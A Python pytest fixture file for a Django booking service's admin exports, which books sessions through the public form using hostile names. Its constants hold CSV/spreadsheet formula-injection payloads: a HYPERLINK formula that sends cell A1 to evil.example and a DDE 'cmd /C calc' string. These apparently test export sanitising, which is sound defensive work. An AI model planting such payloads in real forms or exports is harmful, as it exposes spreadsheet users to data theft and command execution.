"""Exports fixtures: two supervisors' bookings, made through the public booking form (so
school and supervisee names are typed by the public), with held, cancelled and booked sessions.
"""

from __future__ import annotations

import datetime
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import pytest
from django.utils import timezone

from tests.workflows.conftest import booking_post, login, next_weekday
from workflows.enums import SessionStatus
from workflows.models import Booking, Session
from workflows.services.scheduling import schedule_sessions

# Names a member of the public typed into the booking form, each one formula-like.
EVIL_SCHOOL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_SUPERVISEE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_SCHOOL = "-2+3 Academy"

EXPORTS = "/admin/exports/"


@dataclass
class ExportData:
    service: Any
    evil: Booking  # supervisor A, 60 minutes, £60
    hillside: Booking  # supervisor B, 90 minutes, £80
    held_a: Session
    late_a: Session  # cancelled 2 hours before the start
    booked_a: Session
    held_b: Session
    early_b: Session  # cancelled 3 days before the start
    date_from: datetime.date
    date_to: datetime.date

    def form(self, export: str, **extra: Any) -> dict[str, Any]:
        data = {
            "export": export,
            "date_from": self.date_from.isoformat(),
            "date_to": self.date_to.isoformat(),
            "supervisor": "",
            "school": "",
            "service": "",
            "state": "",
        }
        data.update(extra)
        return data


def _book(client: Any, service: Any, **fields: Any) -> Booking:
    client.post(service.form_page.url, booking_post(service, **fields))
    return Booking.objects.get(supervisee_email=fields["work_email"])


def _sessions(booking: Booking, days: list[int], minutes: int) -> list[Session]:
    return schedule_sessions(
        booking=booking,
        slots=[
            {"start": next_weekday(d), "duration_minutes": minutes, "location": "Room"}
            for d in days
        ],
    )


@pytest.fixture
def export_data(service) -> ExportData:
    from django.test import Client

    client = Client()  # the public, not signed in
    evil = _book(
        client,
        service,
        school_name=EVIL_SCHOOL,
        school_urn="111111",
        supervisee_name=EVIL_SUPERVISEE,
        work_email="evil@example.org",
    )
    hillside = _book(
        client,
        service,
        school_name=MINUS_SCHOOL,
        school_urn="222222",
        supervisee_name="-Ann Smith",
        work_email="ann@example.org",
        supervisor=service.supervisor_b.pk,
        duration_minutes="90",
    )
    held_a, late_a, booked_a = _sessions(evil, [7, 14, 21], 60)
    held_b, early_b = _sessions(hillside, [8, 15], 90)
    # Arrange the outcomes (marking held and cancelling are tested in tests/workflows).
    Session.objects.filter(pk__in=[held_a.pk, held_b.pk]).update(status=SessionStatus.HELD)
    Session.objects.filter(pk=booked_a.pk).update(status=SessionStatus.CONFIRMED)
    for session, before in (
        (late_a, datetime.timedelta(hours=2)),
        (early_b, datetime.timedelta(days=3)),
    ):
        Session.objects.filter(pk=session.pk).update(
            status=SessionStatus.CANCELLED, cancelled_at=session.start - before
        )
    for s in (held_a, late_a, booked_a, held_b, early_b):
        s.refresh_from_db()
    today = timezone.localdate()
    return ExportData(
        service=service,
        evil=evil,
        hillside=hillside,
        held_a=held_a,
        late_a=late_a,
        booked_a=booked_a,
        held_b=held_b,
        early_b=early_b,
        date_from=today,
        date_to=today + datetime.timedelta(days=40),
    )


@pytest.fixture
def staff_client(client, service):
    return login(client, service.staff)


def prices(*sessions: Session) -> Decimal:
    return sum((s.price for s in sessions), Decimal("0"))
